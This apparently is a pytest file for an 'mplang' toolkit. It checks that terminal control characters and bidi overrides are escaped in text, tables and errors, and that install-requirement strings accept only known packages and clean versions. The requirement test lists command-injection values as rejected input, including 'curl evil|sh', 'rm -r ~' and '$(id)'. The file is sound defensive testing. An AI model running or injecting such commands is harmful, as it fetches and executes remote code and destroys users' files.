"""What others wrote is shown as it is, and does nothing else."""

from __future__ import annotations

import pytest
from mplang_analysis.report import TextTable
from mplang_cli.artifact.requirements import known_requirement
from mplang_simulator import Failure
from rich.console import Console

from mplang_core.errors import KernelError
from mplang_core.printable import printable
from mplang_core.suggest import KNOWN


@pytest.mark.parametrize("text", ["", "plain", "mit Umlauten: äöü", "日本語", "a\\b"])
def test_ordinary_text_stays(text):
    assert printable(text) == text


@pytest.mark.parametrize(
    ("text", "shown"),
    [
        ("a\x1b[31mb", r"a\x1b[31mb"),
        ("a\rb\nc\td", r"a\rb\nc\td"),
        ("a\x07\x08\x7f\x9b", r"a\x07\x08\x7f\x9b"),
        ("user\u202egnp.exe", r"user\u202egnp.exe"),
        ("a\u200bb\u2028c", r"a\u200bb\u2028c"),
        ("\ud800", r"\ud800"),
    ],
)
def test_what_controls_a_terminal_is_escaped(text, shown):
    assert printable(text) == shown
    assert printable(text).isprintable()


def test_line_breaks_may_stay():
    assert printable("a\n\x1bb", keep="\n") == "a\n" + r"\x1bb"


def rich_text(renderable) -> str:
    console = Console(width=80)
    with console.capture() as capture:
        console.print(renderable)
    return capture.get()


def test_tables_and_errors_of_others_are_printable():
    table = TextTable("t\x1b", ["name\x1b\u202e"], [["a\x1b[2J"]])
    shown = table.text() + table.html() + rich_text(table)
    assert "\x1b" not in shown
    assert "\u202e" not in shown
    error = Failure("KernelError", "a\x1b\nb", "op\x1b", "x.py\r:1").error()
    assert isinstance(error, KernelError)
    assert str(error) == r"a\x1b" + "\nb"
    assert (error.op, error.location) == (r"op\x1b", r"x.py\r:1")


def test_only_packages_of_mplang_are_told_to_be_installed():
    for name in ("mplang-core", *KNOWN.values()):
        assert known_requirement(name, "1.2.3") == f"'{name}==1.2.3'"
    for name in ("mplang-jaxx", "mplang-jax; curl evil|sh #\x1b[31m", "", "MPLANG-JAX", "requests"):
        assert known_requirement(name, "1.0") is None
    for version in ("", "1.0; rm -r ~", "1.0'", "$(id)", "1.0\x1b[31m"):
        assert known_requirement("mplang-jax", version) is None


@pytest.mark.parametrize("row", [[], ["a"], ["a", "b", "c"]])
def test_a_table_has_a_text_for_each_column(row):
    with pytest.raises(ValueError, match=rf"table 't': expected 2 texts in row 1, .* {len(row)}"):
        TextTable("t", ["one", "two"], [["a", "b"], row])
